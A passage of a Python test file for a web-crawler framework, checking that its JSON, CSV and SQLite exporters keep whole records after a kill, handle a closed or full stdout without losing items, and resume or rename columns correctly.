    data = path.read_bytes()
    if fmt == "json":
        return data.count(b"\n{")  # each element starts a line
    return data.count(b"\r\n") - 1 if fmt == "csv" else data.count(b"\n")


async def _wait_for_records(
    outputs: dict[str, Path], process: asyncio.subprocess.Process, log: Path, hanging: asyncio.Event
) -> None:
    """Wait until fw asks for the hanging page; by then every output must hold WHOLE records.

    The site is a chain, each page linking only to the next and the last to ``/hang``, and
    fw exports a page's items before it queues the links found on it; so when ``/hang`` is
    requested, every page's record has been written. Fail if fw exits or 15 s pass first.
    """
    asked, exited = asyncio.ensure_future(hanging.wait()), asyncio.ensure_future(process.wait())
    try:
        async with asyncio.timeout(15):
            await asyncio.wait([asked, exited], return_when=asyncio.FIRST_COMPLETED)
    finally:
        asked.cancel()
        exited.cancel()
    assert process.returncode is None, log.read_text()
    counts = {fmt: _count(path, fmt) for fmt, path in outputs.items()}
    assert min(counts.values()) >= WHOLE, f"records on disk while fw waits: {counts}"


async def test_sigkill_leaves_only_whole_records(tmp_path: Path, serve: Serve) -> None:
    never, hanging = asyncio.Event(), asyncio.Event()

    async def handler(request: web.Request) -> web.Response:
        if request.path == "/hang":
            hanging.set()
            await never.wait()  # fw keeps waiting: its timeout is generous
            return web.Response(text="too late")
        n = int(request.match_info["n"] or 0)
        return page(n, f"/{n + 1}" if n < WHOLE - 1 else "/hang")

    app = web.Application()
    app.router.add_get("/{n:[0-9]*|hang}", handler)
    base = await serve(app)
    project = pages_project(tmp_path, base, "timeout: 600")
    outputs = {
        "jsonl": tmp_path / "x.jsonl",
        "csv": tmp_path / "x.csv",
        "sqlite": tmp_path / "x.db",
        "json": tmp_path / "x.json",
    }
    log = tmp_path / "stderr.txt"
    with log.open("wb") as stderr:
        process = await asyncio.create_subprocess_exec(
            sys.executable,
            "-m",
            "framework",
            "run",
            str(project),
            *(arg for path in outputs.values() for arg in ("-o", str(path))),
            stdout=asyncio.subprocess.DEVNULL,
            stderr=stderr,
        )
    try:
        # Every item is scraped, and fw waits for /hang: what it wrote must be on disk.
        await _wait_for_records(outputs, process, log, hanging)
        assert process.returncode is None  # still crawling: this is a crash, not an exit
        process.kill()
        assert await process.wait() == -signal.SIGKILL
    finally:
        if process.returncode is None:
            process.kill()
            await process.wait()
        never.set()  # lets the test server shut down at once

    def check(record: Mapping[str, Any]) -> None:
        n = int(str(record["url"]).rsplit("/", 1)[1] or 0)
        tags = record["tags"]
        assert record["title"] == f'第{n}页, "引号"'
        assert (json.loads(tags) if isinstance(tags, str) else tags) == [f"标签{n}", "b,c"]

    records = {
        "jsonl": read_jsonl(outputs["jsonl"]),
        "sqlite": read_sqlite(outputs["sqlite"]),
        "json": read_json_array(outputs["json"], finished=False),
    }
    header, *rows = read_csv(outputs["csv"])
    assert header == ["url", "title", "tags", "missing", "ok"]
    assert all(len(row) == len(header) for row in rows), rows
    records["csv"] = [dict(zip(header, row, strict=True)) for row in rows]
    for fmt, found in records.items():
        assert len(found) == WHOLE, fmt
        assert len({record["url"] for record in found}) == WHOLE, fmt
        for record in found:
            check(record)


async def fw_into_head(project: Path, *outputs: str, left: asyncio.Event) -> tuple[int, str, str]:
    """``fw run PROJECT -o ...`` into a reader that takes one line and leaves, one request at
    a time, as ``| head -n 1`` does: fw's exit code, the line, and fw's stderr. ``left`` is set
    once the reader has gone."""
    read, write = os.pipe()
    with os.fdopen(read, "rb") as reader:
        process = await asyncio.create_subprocess_exec(
            *fw_command(),
            "run",
            str(project),
            "-s",
            "concurrency.total=1",
            *(arg for output in outputs for arg in ("-o", output)),
            stdout=write,
            stderr=asyncio.subprocess.PIPE,
        )
        os.close(write)
        try:
            line = await asyncio.wait_for(asyncio.to_thread(reader.readline), 30)
        except TimeoutError:
            process.kill()  # ends the blocked read too
            raise
    left.set()
    _, err = await asyncio.wait_for(process.communicate(), 30)
    assert process.returncode is not None
    return process.returncode, line.decode(), err.decode()


async def test_o_dash_into_a_reader_that_stops_early_ends_quietly(
    tmp_path: Path, serve: Serve
) -> None:
    left = asyncio.Event()
    base = await serve(small_site(40, held=left))
    code, out, err = await fw_into_head(pages_project(tmp_path, base), "-", left=left)
    assert code == 0, err
    assert len(out.splitlines()) == 1
    assert "stdout closed" in err and "Error" not in err


async def test_stdout_closing_early_leaves_the_other_exports_whole(
    tmp_path: Path, serve: Serve
) -> None:
    left = asyncio.Event()
    base = await serve(small_site(40, held=left))
    items = tmp_path / "items.jsonl"
    code, out, err = await fw_into_head(pages_project(tmp_path, base), "-", str(items), left=left)
    assert code == 0, err
    assert len(out.splitlines()) == 1
    assert f"stdout closed: the crawl goes on for {items}" in err
    assert len(read_jsonl(items)) == 40  # every page's item, not those before the reader left
    # Stdout lacks every item after its reader left, not just the one that found it gone.
    assert "40 items exported (39 not in -)" in err, err


async def test_o_dash_into_a_tcp_reader_that_resets_ends_quietly(
    tmp_path: Path, serve: Serve
) -> None:
    """A TCP reader leaving without reading all resets the connection: ECONNRESET, not
    EPIPE, is how fw learns it left."""
    left = asyncio.Event()
    base = await serve(small_site(40, held=left))
    with socket.create_server(("127.0.0.1", 0)) as server:
        writer = socket.create_connection(server.getsockname())
        reader, _ = server.accept()
    with writer, reader:
        process = await asyncio.create_subprocess_exec(
            *fw_command(),
            "run",
            str(pages_project(tmp_path, base)),
            "-s",
            "concurrency.total=1",
            "-o",
            "-",
            "-o",
            str(tmp_path / "all.jsonl"),
            stdout=writer,
            stderr=asyncio.subprocess.PIPE,
        )
        writer.close()
        reader.settimeout(30)
        first = await asyncio.to_thread(reader.recv, 65536)
        reader.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    left.set()  # closed with linger 0: a reset; the pages past the first come now
    _, err = await asyncio.wait_for(process.communicate(), 30)
    assert process.returncode == 0, err.decode()
    assert json.loads(first.splitlines()[0])["url"] == f"{base}/"
    assert "stdout closed" in err.decode()
    assert len(read_jsonl(tmp_path / "all.jsonl")) == 40


async def test_pages_whose_items_stdout_never_took_are_fetched_by_the_next_run(
    tmp_path: Path, serve: Serve
) -> None:
    left = asyncio.Event()
    base = await serve(small_site(40, held=left))
    project = pages_project(tmp_path, base, 'frontier: "sqlite:///state/crawl.db"')
    code, out, err = await fw_into_head(project, "-", left=left)
    assert code == 0 and "stdout closed" in err, err
    # The pages handed back are fetched again; those whose items reached stdout are not.
    rest = await run_fw("run", str(project), "-o", str(tmp_path / "rest.jsonl"))
    assert rest.returncode == 0, rest.stderr
    found = re.search(r"(\d+) items exported", err)
    assert found is not None, err
    rest_urls = {item["url"] for item in read_jsonl(tmp_path / "rest.jsonl")}
    assert json.loads(out)["url"] not in rest_urls
    assert len(rest_urls) == 40 - int(found[1])  # none lost: a page handed back comes again


async def test_a_non_blocking_stdout_that_fills_up_loses_no_item(
    tmp_path: Path, serve: Serve
) -> None:
    """Whoever opened stdout may have left it non-blocking (a shell's socket, a parent's
    pipe): a full one then takes nothing (EAGAIN), which is no record written."""
    base = await serve(small_site(200))
    read, write = os.pipe()
    fcntl.fcntl(write, fcntl.F_SETPIPE_SZ, 4096)  # 200 items are more than it holds
    os.set_blocking(write, False)
    with os.fdopen(read, "rb") as reader:
        process = await asyncio.create_subprocess_exec(
            *fw_command(),
            "run",
            str(pages_project(tmp_path, base)),
            "-o",
            "-",
            stdout=write,
            stderr=asyncio.subprocess.PIPE,
        )
        os.close(write)
        out = await asyncio.to_thread(_slowly, reader)  # fw meets it full, again and again
    _, err = await asyncio.wait_for(process.communicate(), 30)
    assert process.returncode == 0, err.decode()
    assert len({json.loads(line)["url"] for line in out.splitlines()}) == 200


def _slowly(pipe: BinaryIO) -> bytes:
    """Read ``pipe`` to its end once it is nearly full, a little at a time: a reader far
    slower than the crawl, which keeps meeting the pipe full."""
    deadline = time.monotonic() + 30
    while struct.unpack("i", fcntl.ioctl(pipe, termios.FIONREAD, b"\0" * 4))[0] < 3072:
        assert time.monotonic() < deadline, "the pipe never filled"
        time.sleep(0.01)
    chunks = []
    while chunk := os.read(pipe.fileno(), 256):
        chunks.append(chunk)
        time.sleep(0.005)  # a slow reader: ~50 KB/s against the crawl's far more
    return b"".join(chunks)


async def test_a_csv_at_dev_stdout_resumed_into_a_pipe_starts_its_own_header(
    tmp_path: Path, serve: Serve
) -> None:
    """Appending, it read the earlier header back through /dev/stdout: from a pipe, which
    is no file (not seekable, and its reader's to read)."""
    base = await serve(small_site(4))
    project = pages_project(tmp_path, base, 'frontier: "sqlite:///state/crawl.db"')
    csv = ["-s", "exporters=[{format: csv, path: /dev/stdout, fields: [url]}]"]
    first = await run_fw("run", str(project), *csv, "-s", "max_pages=2")
    rest = await run_fw("run", str(project), *csv)
    assert first.returncode == rest.returncode == 0, first.stderr + rest.stderr
    assert first.stdout.splitlines()[0] == rest.stdout.splitlines()[0] == "url"
    urls = first.stdout.splitlines()[1:] + rest.stdout.splitlines()[1:]
    assert sorted(urls) == sorted([f"{base}/", *(f"{base}/{n}" for n in range(1, 4))])


async def test_sqlite_cannot_write_to_stdout(tmp_path: Path, serve: Serve) -> None:
    base = await serve(small_site(1))
    project = pages_project(tmp_path, base, "exporters: [{format: sqlite, path: '-'}]")
    done = await run_fw("check", str(project), cwd=tmp_path)
    assert done.returncode == 2
    assert _one_error_line(done.stderr).endswith(
        "exporters[0].path: exporter 'sqlite' cannot write to standard output; give a file"
    )


def test_the_longest_extension_picks_the_exporter() -> None:
    registry = Registry.collect(make_plugin_manager())
    picks = {
        name: registry.exporters_for_extension(name)
        for name in ("a.ndjson", "a.json", "A.JSONL", "a.sqlite3", "a.xml")
    }
    assert {name: e[0].format if e else None for name, e in picks.items()} == {
        "a.ndjson": "jsonl",
        "a.json": "json",
        "A.JSONL": "jsonl",
        "a.sqlite3": "sqlite",
        "a.xml": None,
    }


def test_an_export_started_over_stands_at_its_beginning(tmp_path: Path) -> None:
    path = tmp_path / "items.jsonl"
    path.write_text('{"earlier": "run"}\n' * 10)
    exporter = JsonLinesExporter(str(path))
    exporter.open()
    try:
        assert exporter.checkpoint() == 0  # not the length the file had
    finally:
        exporter.close()


def test_a_second_writer_of_one_export_is_refused_and_truncates_nothing(tmp_path: Path) -> None:
    path = str(tmp_path / "items.jsonl")
    first = JsonLinesExporter(path)
    first.open()
    first.write({"n": 1})
    second = JsonLinesExporter(path)
    with pytest.raises(OSError, match="another fw process is writing it"):
        second.open()
    first.write({"n": 2})
    first.close()
    assert read_jsonl(Path(path)) == [{"n": 1}, {"n": 2}]


def test_sqlite_appending_puts_each_key_in_the_column_it_had(tmp_path: Path) -> None:
    path = tmp_path / "items.db"
    append = SqliteOptions(if_exists="append")
    export(SqliteExporter(str(path)), [{"Name": 1}, {"name": 2}, {"_rowid": 3}])
    for run in range(2):  # a later run, and one more: the keys find their columns
        export(
            SqliteExporter(str(path), append),
            [{"name": 10 + run}, {"Name_2": 20 + run}, {"_rowid": 30 + run}],
        )
    assert sqlite_columns(path) == ["_rowid", "Name", "name_2", "_rowid_2", "Name_2_2"]
    rows = read_sqlite(path)
    assert [row["name_2"] for row in rows if row["name_2"]] == [2, 10, 11]
    assert [row["Name_2_2"] for row in rows if row["Name_2_2"]] == [20, 21]
    assert [row["_rowid_2"] for row in rows if row["_rowid_2"]] == [3, 30, 31]
    upper = SqliteOptions(table="ITEMS", if_exists="append")  # SQLite's names ignore case
    export(SqliteExporter(str(path), upper), [{"name": 12}])
    assert [row["name_2"] for row in read_sqlite(path) if row["name_2"]] == [2, 10, 11, 12]
    export(SqliteExporter(str(path)), [{"name": 1}])  # replaced: nothing renamed is left
    assert sqlite_columns(path) == ["_rowid", "name"]
    with closing(sqlite3.connect(path)) as db:
        assert db.execute(f"SELECT count(*) FROM {sqlite._RENAMED}").fetchone() == (0,)
